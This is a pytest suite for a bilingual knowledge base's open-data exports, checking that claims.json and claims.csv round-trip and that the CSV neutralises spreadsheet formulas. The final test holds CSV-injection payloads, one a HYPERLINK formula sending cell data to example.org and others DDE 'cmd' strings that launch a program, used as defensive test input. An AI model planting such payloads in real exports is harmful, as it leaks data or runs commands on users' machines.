"""claims.json and claims.csv round-trip: read back, they are the knowledge base."""

import csv
import dataclasses
import io
import json

import jsonschema
import pytest
from conftest import REPO, TINY_KB

from oxykb.check import check
from oxykb.model import Localized
from oxykb.publish import opendata


def test_claims_json_round_trips_and_follows_its_published_schema(real_site):
    kb = check(REPO).knowledge_base
    data = json.loads((real_site / "claims.json").read_text("utf-8"))
    schema = json.loads((real_site / "schema/claims-json.schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(schema).validate(data)

    assert data["format_version"] == opendata.FORMAT_VERSION
    assert data["license"] is None
    assert [c["id"] for c in data["claims"]] == sorted(kb.claims)
    for item in data["claims"]:
        claim = kb.claims[item["id"]]
        assert item["category"] == claim.category.value and item["grade"] == claim.grade.value
        assert (item["statement"]["nl"], item["statement"]["en"]) == (claim.statement.nl, claim.statement.en)
        assert (item["rationale"]["nl"], item["rationale"]["en"]) == (claim.rationale.nl, claim.rationale.en)
        assert [(q["source"], q["quote"], q["quote_en"]) for q in item["sources"]] == [
            (q.source, q.quote, q.quote_en) for q in claim.sources
        ]
        assert (item["cites"], item["related"], item["contradicts"], item["tags"]) == (
            list(claim.cites),
            list(claim.related),
            list(claim.contradicts),
            list(claim.tags),
        )
        assert item["reviewed"] == claim.reviewed.isoformat() and item["status"] == claim.status.value
        assert (real_site / item["url"]["nl"] / "index.html").is_file() and (
            real_site / item["url"]["en"] / "index.html"
        ).is_file()
    assert {s["id"]: s.get("doi") for s in data["sources"]} == {s.id: s.doi for s in kb.sources.values()}
    assert data["tags"] == {tag: {"nl": name.nl, "en": name.en} for tag, name in kb.tags.items()}


def test_claims_csv_round_trips(real_site):
    kb = check(REPO).knowledge_base
    rows = list(csv.DictReader(io.StringIO((real_site / "claims.csv").read_text("utf-8"))))
    assert [row["id"] for row in rows] == sorted(kb.claims)
    for row in rows:
        claim = kb.claims[row["id"]]
        assert (row["statement_nl"], row["statement_en"], row["rationale_nl"], row["rationale_en"]) == (
            claim.statement.nl,
            claim.statement.en,
            claim.rationale.nl,
            claim.rationale.en,
        )
        assert row["grade"] == claim.grade.value and row["reviewed"] == claim.reviewed.isoformat()
        assert row["sources"].split(";") == [q.source for q in claim.sources]
        assert (row["tags"].split(";") if row["tags"] else []) == list(claim.tags)


@pytest.mark.parametrize(
    "prefix, licence, addresses, formula",
    [
        (
            "",
            "Licentie",
            "claims/&lt;id&gt;/ in het Nederlands en en/claims/&lt;id&gt;/ in het Engels",
            "niet als formule",
        ),
        (
            "en/",
            "Licence",
            "claims/&lt;id&gt;/ in Dutch and en/claims/&lt;id&gt;/ in English",
            "not run it as a formula",
        ),
    ],
)
def test_open_data_page_in_both_languages(real_site, prefix, licence, addresses, formula):
    text = (real_site / prefix / "open-data/index.html").read_text("utf-8")
    assert f">{licence}<" in text  # a heading
    assert '<a href="../claims.json">claims.json</a>' in text and '<a href="../claims.csv">claims.csv</a>' in text
    assert addresses in text  # the permanent addresses of a claim, as the site uses them
    assert formula in text  # says that claims.csv neutralises formulas


def test_csv_cells_cannot_run_as_spreadsheet_formulas():
    """OWASP's advice against CSV injection: a cell that a spreadsheet would run as a formula starts with a quote."""
    kb = check(TINY_KB).knowledge_base
    hostile = {"nl": '=HYPERLINK("https://example.org/?"&A1,"klik")', "en": "+1+cmd|' /C calc'!A0"}
    claim = dataclasses.replace(
        kb.claims["cuddle-hormone-myth"],
        statement=Localized(**hostile),
        rationale=Localized("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
    )
    kb = dataclasses.replace(kb, claims={**kb.claims, claim.id: claim})

    row = next(row for row in csv.DictReader(io.StringIO(opendata.as_csv(kb))) if row["id"] == claim.id)
    assert (row["statement_nl"], row["statement_en"], row["rationale_nl"], row["rationale_en"]) == (
        "'" + hostile["nl"],
        "'" + hostile["en"],
        "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    )
    assert row["grade"] == claim.grade.value and row["url_nl"] == f"claims/{claim.id}/"  # other cells as they were
    assert [opendata.spreadsheet_safe(cell) for cell in ("\tx", "\rx", "a=b", "")] == ["'\tx", "'\rx", "a=b", ""]
    data = json.loads(opendata.as_json(kb))
    assert (
        next(item for item in data["claims"] if item["id"] == claim.id)["statement"] == hostile
    )  # claims.json: as written
